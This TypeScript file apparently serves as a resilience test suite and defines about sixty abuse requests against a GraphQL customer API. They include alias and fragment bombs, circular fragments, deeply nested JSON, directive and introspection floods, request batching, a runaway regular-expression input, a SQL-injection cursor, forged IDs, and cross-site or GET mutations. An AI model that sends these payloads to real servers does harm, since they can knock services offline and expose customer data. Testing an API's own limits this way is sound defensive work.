// Requests that bring GraphQL servers down, as one attacker would send them.

/** One request to the GraphQL API. */
export interface Attack {
  name: string;
  /** What is sent: by POST unless it says otherwise. */
  body: string;
  method?: 'GET';
  headers?: Record<string, string>;
}

const LARGEST_BODY = 64 * 1024;
const ask = (query: string, more: object = {}) => JSON.stringify({ query, ...more });
const times = (count: number, write: (i: number) => string, between = ' ') =>
  Array.from({ length: count }, (_, i) => write(i)).join(between);
/** As often as a body holds it. */
const full = (write: (i: number) => string, around = (text: string) => `{ ${text} }`) => {
  const count = Math.floor((LARGEST_BODY - 400) / (JSON.stringify(write(9_999)).length - 1));
  return ask(around(times(count, write)));
};
const nest = (depth: number, open: string, close: string, core: string) =>
  open.repeat(depth) + core + close.repeat(depth);
const page =
  'customers(first: 100) { edges { node { cuRefNo groups { slug } referral { code customer { cuRefNo groups { slug } } } runningSubscriptions { orderNumber } } } }';
const PROFILE =
  'id cuRefNo email phone firstName lastName companyName companyRegistrationNumber taxIdentificationNumber creditBalance premium ban meta customFields createdAt updatedAt lastSeenAt';
const RELATIONS =
  'groups { name slug } runningSubscriptions { externalId productSlug productCode orderNumber orderHash autoRenew }';
const ADDRESS =
  'address kind country { code name } region city latitude longitude accuracyRadiusKm timeZone asn asOrganisation isAnonymous isVpn isProxy isTor isHosting sources { name builtAt attribution }';
const cursor = (text: string) => Buffer.from(text).toString('base64url');

/** The schema, asked for in full as tools do. */
const INTROSPECTION = `__schema { queryType { name } types { kind name description fields(includeDeprecated: true) { name description
  args { name description type { ...T } defaultValue } type { ...T } } inputFields { name type { ...T } } enumValues { name } possibleTypes { name } } directives { name args { name } } }`;
const TYPE_REF =
  'fragment T on __Type { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name } } } } }';

/** Fragments that each spread the next one several times: two to the power of their number when taken apart naively. */
const fragmentBomb = (levels: number, spreads: number, on: string, leaf: string) =>
  `{ customers { edges { node { ...F0 } } } } ${times(levels, (i) => `fragment F${i} on ${on} { ${times(spreads, () => `...F${i + 1}`)} }`)} fragment F${levels} on ${on} { ${leaf} }`;

export const attacks: Attack[] = [
  { name: 'alias bomb, small fields', body: full((i) => `a${i}:__typename`) },
  { name: 'alias bomb, look-ups', body: full((i) => `a${i}:customer(by:{email:"a@b.cz"}){email}`) },
  { name: 'alias bomb, pages at the limit of aliases', body: ask(`{ ${times(20, (i) => `a${i}: ${page}`)} }`) },
  {
    name: 'as many pages as may be asked for',
    body: ask(
      `{ ${times(4, (i) => `a${i}: customers(first: 100) { edges { cursor node { id cuRefNo email phone } } }`)} }`,
    ),
  },
  {
    name: 'histories of addresses, a page each',
    body: ask(`{ customers(first: 100) { edges { node { ipHistory(first: 100) { edges { node { address } } } } } } }`),
  },
  {
    name: 'changes of as many customers as may be asked for, a page each',
    body: ask(
      '{ customers(first: 100) { edges { node { changes(first: 100) { edges { node { action fields { name before after } } } } } } } }',
    ),
  },
  {
    name: 'changes, as much as complexity allows',
    body: ask(
      '{ customers(first: 100) { edges { node { changes(first: 20) { edges { node { action actor reason fields { name } } } } } } } }',
    ),
  },
  {
    name: 'credit ledgers, a page each',
    body: ask(
      '{ customers(first: 100) { edges { node { creditEntries(first: 100) { edges { cursor node { amount } } } } } } }',
    ),
  },
  {
    name: 'many pages of one history, each of other actions',
    body: ask(
      `{ customer(by: { email: "filled1@example.com" }) { ${times(28, (i) => `c${i}: changes(first: ${i + 1}, actions: [UPDATED, BANNED, CREATED]) { edges { cursor } }`)} } }`,
    ),
  },
  {
    name: 'a huge list of actions',
    body: ask(
      'query ($a: [CustomerAction!]) { customers(first: 100) { edges { node { changes(first: 1, actions: $a) { edges { cursor } } } } } }',
      { variables: { a: Array.from({ length: 8_000 }, () => 'BANNED') } },
    ),
  },
  {
    name: 'deep JSON to store',
    body: `{"query":"mutation ($i: UpdateCustomerInput!) { updateCustomer(input: $i) { customer { version } } }","variables":{"i":{"by":{"email":"filled1@example.com"},"meta":${nest(6_000, '{"a":', '}', '1')}}}}`,
  },
  {
    name: 'wide JSON to store',
    body: `{"query":"mutation ($i: UpdateCustomerInput!) { updateCustomer(input: $i) { customer { version } } }","variables":{"i":{"by":{"email":"filled1@example.com"},"customFields":{${times(5_000, (i) => `"m${i}":0`, ',')}}}}}`,
  },
  {
    name: 'numbers of many digits to store',
    body: `{"query":"mutation ($i: UpdateCustomerInput!) { updateCustomer(input: $i) { customer { version } } }","variables":{"i":{"by":{"email":"filled1@example.com"},"meta":{${times(5_000, (i) => `"m${i}":1e-9`, ',')}}}}}`,
  },
  {
    name: 'as many mutations as may be asked for',
    body: ask(
      `mutation { ${times(20, (i) => `m${i}: adjustCustomerCredit(input: { by: { email: "filled1@example.com" }, amount: ${i % 2 === 0 ? 1 : -1}, description: "x" }) { customer { creditBalance changes(first: 100) { edges { node { action } } } } }`)} }`,
    ),
  },
  {
    name: 'names of as many addresses as may be asked for',
    body: ask(
      `{ customers(first: 100) { edges { node { ipHistory(first: 30) { edges { node { reverseDns { name } } } } } } } }`,
    ),
  },
  {
    name: 'as many addresses as may be asked for, with all that is known',
    body: ask(`{ ${times(20, (i) => `i${i}: ipInfo(ip: "1.${i}.1.1") { ${ADDRESS} }`)} }`),
  },
  {
    name: 'as much as complexity allows',
    body: ask(
      `{ customers(first: 100) { edges { cursor node { ${PROFILE} ${RELATIONS} referral { code email firstName lastName customer { ${PROFILE} ${RELATIONS} } } } } } }`,
    ),
  },
  {
    name: 'as many look-ups as may be asked for, with all that belongs to them',
    body: ask(
      `{ ${times(20, (i) => `c${i}: customer(by: { email: "filled${i + 2}@example.com" }) { ${PROFILE} ${RELATIONS} referral { customer { ${PROFILE} ${RELATIONS} } } }`)} }`,
    ),
  },
  {
    name: 'deep selection',
    body: ask(`{ customers { edges { node { ${nest(30, 'referral { customer { ', ' } }', 'cuRefNo')} } } } }`),
  },
  {
    name: 'very deep selection',
    body: full(
      () => '{a',
      (text) => text + '}'.repeat(9),
    ),
  },
  {
    name: 'deep fragments',
    body: ask(
      `{ customers { edges { node { ...F0 } } } } ${times(200, (i) => `fragment F${i} on Customer { referral { customer { ...F${i + 1} } } }`)} fragment F200 on Customer { email }`,
    ),
  },
  {
    name: 'circular fragments',
    body: ask(
      '{ customers { edges { node { ...A } } } } fragment A on Customer { ...B } fragment B on Customer { ...C } fragment C on Customer { ...A }',
    ),
  },
  {
    name: 'circular fragments through fields',
    body: ask('{ customers { edges { node { ...A } } } } fragment A on Customer { referral { customer { ...A } } }'),
  },
  { name: 'fragment bomb, 2^30', body: ask(fragmentBomb(30, 2, 'Customer', 'email')) },
  { name: 'fragment bomb, 10^12', body: ask(fragmentBomb(12, 10, 'Customer', 'email')) },
  {
    name: 'fragment bomb through fields',
    body: ask(
      `{ customers { edges { node { ...F0 } } } } ${times(5, (i) => `fragment F${i} on Customer { ${times(6, (j) => `x${j}: referral { customer { ...F${i + 1} } }`)} }`)} fragment F5 on Customer { email }`,
    ),
  },
  {
    name: 'directive overload on one field',
    body: full(
      () => '@include(if:true)',
      (text) => `{ __typename ${text} }`,
    ),
  },
  { name: 'directive overload on many fields', body: full(() => '__typename@skip(if:false)') },
  {
    name: 'unknown directives',
    body: full(
      (i) => `@d${i}`,
      (text) => `{ __typename ${text} }`,
    ),
  },
  { name: 'a huge page', body: ask('{ customers(first: 2147483647) { edges { cursor } } }') },
  {
    name: 'a huge list as an argument',
    body: full(
      (i) => `"${i}"`,
      (text) => `mutation { createApiKey(input: { prefix: PROD, name: "x", scopes: [${text}] }) { key } }`,
    ),
  },
  {
    name: 'a huge list in a variable',
    body: ask('mutation ($i: CreateApiKeyInput!) { createApiKey(input: $i) { key } }', {
      variables: { i: { prefix: 'PROD', name: 'x', scopes: Array.from({ length: 12_000 }, () => 'a') } },
    }),
  },
  { name: 'field duplication', body: full(() => '__typename') },
  {
    name: 'field duplication within the limit of tokens',
    body: ask(`{ customers { edges { node { ${times(1_900, () => 'email')} } } } }`),
  },
  {
    name: 'overlapping fields with arguments',
    body: ask(`{ ${times(150, () => 'customer(by: { email: "a@b.cz" }) { email }')} }`),
  },
  {
    name: 'overlapping fields in nested fragments',
    body: ask(
      `{ ...A ...B } ${['A', 'B'].map((f) => `fragment ${f} on Query { ${times(60, () => 'customers { edges { node { email } } }')} }`).join(' ')}`,
    ),
  },
  { name: 'array batching', body: `[${times(500, () => ask('{ __typename }'), ',')}]` },
  {
    name: 'many operations in one document',
    body: full(
      (i) => `query q${i}{__typename}`,
      (text) => text,
    ),
  },
  {
    name: 'many variables',
    body: full(
      (i) => `$v${i}:Int`,
      (text) => `query (${text}) { __typename }`,
    ),
  },
  {
    name: 'introspection, circular',
    body: ask(`{ __schema { types { ${nest(12, 'fields { type { ', ' } }', 'name')} } } }`),
  },
  { name: 'introspection, many times', body: ask(`{ ${times(15, (i) => `a${i}: ${INTROSPECTION}`)} } ${TYPE_REF}`) },
  {
    name: 'introspection, as often as is allowed',
    body: ask(`{ a: ${INTROSPECTION} b: ${INTROSPECTION} } ${TYPE_REF}`),
  },
  {
    name: 'introspection through deep types',
    body: ask(`{ __type(name: "Customer") { fields { type { ${nest(40, 'ofType { ', ' }', 'name')} } } } }`),
  },
  { name: 'one long name', body: ask(`{ ${'a'.repeat(60_000)} }`) },
  { name: 'one long string', body: ask(`{ customer(by: { email: "${'a'.repeat(60_000)}" }) { email } }`) },
  { name: 'one long comment', body: ask(`# ${'a'.repeat(60_000)}\n{ __typename }`) },
  {
    name: 'many short tokens',
    body: full(
      () => '{',
      (text) => text,
    ),
  },
  {
    name: 'block strings full of quotes',
    body: ask(`{ customer(by: { email: """${'\\"""'.repeat(7_000)}""" }) { email } }`),
  },
  { name: 'unknown fields that resemble known ones', body: full((i) => `customes${i}`) },
  { name: 'unknown types that resemble known ones', body: full((i) => `...on Custome${i}{a}`) },
  { name: '@defer flood', body: full((i) => `...@defer(label:"l${i}"){__typename}`) },
  {
    name: '@stream flood',
    body: ask(`{ customers { edges @stream(initialCount: 0) { ${times(100, (i) => `c${i}: cursor @stream`)} } } }`),
  },
  { name: 'a subscription', body: ask('subscription { customers { edges { cursor } } }') },
  {
    name: 'cursor forging, another list',
    body: ask(`{ customers(after: "${cursor('apiKey:PRODabcd')}") { edges { cursor } } }`),
  },
  {
    name: 'cursor forging, SQL',
    body: ask(`{ customers(after: "${cursor("customer:' or '1'='1")}") { edges { cursor } } }`),
  },
  {
    name: 'id forging',
    body: ask(
      `{ ${times(20, (i) => `n${i}: node(id: "${Buffer.from(`Customer:${i}`).toString('base64')}") { id }`)} }`,
    ),
  },
  {
    name: 'a regular expression that runs away',
    body: ask(`{ customer(by: { email: "${`${'a.'.repeat(30)}@`.repeat(200)}" }) { email } }`),
  },
  {
    name: 'deep variables',
    body: `{"query":"query ($by: CustomerBy!) { customer(by: $by) { email } }","variables":{"by":${nest(10_000, '{"a":', '}', '1')}}}`,
  },
  {
    name: 'a mutation by GET',
    body: 'mutation { createCustomer(input: { email: "get@example.com" }) { newAccount } }',
    method: 'GET',
  },
  {
    name: 'a form from another site',
    body: 'query={__typename}',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  },
  {
    name: 'text from another site',
    body: ask('{ __typename }'),
    headers: { 'content-type': 'text/plain', 'sec-fetch-site': 'cross-site' },
  },
];
